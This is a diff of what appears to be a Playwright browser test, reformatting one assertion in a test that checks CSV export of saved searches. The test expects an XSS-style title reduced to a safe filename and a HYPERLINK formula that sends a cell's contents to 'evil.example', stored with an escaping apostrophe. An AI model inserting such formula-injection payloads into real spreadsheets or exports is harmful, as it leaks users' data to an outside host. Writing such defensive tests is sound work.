@@ -229,7 +229,9 @@ test('what is saved and listed of a search is text, too', async () => {
     page.waitForEvent('download'),
     ways.filter({ hasText: /^CSV/ }).click(),
   ])
-  expect(download.suggestedFilename()).toMatch(/^title-script-alert-archive-script-\d+-events\.csv$/)
+  expect(download.suggestedFilename()).toMatch(
+    /^title-script-alert-archive-script-\d+-events\.csv$/,
+  )
   expect(readFileSync(await download.path(), 'utf8')).toContain(
     `,"'=HYPERLINK(""https://evil.example/?""&A1,""click"")",`,
   )
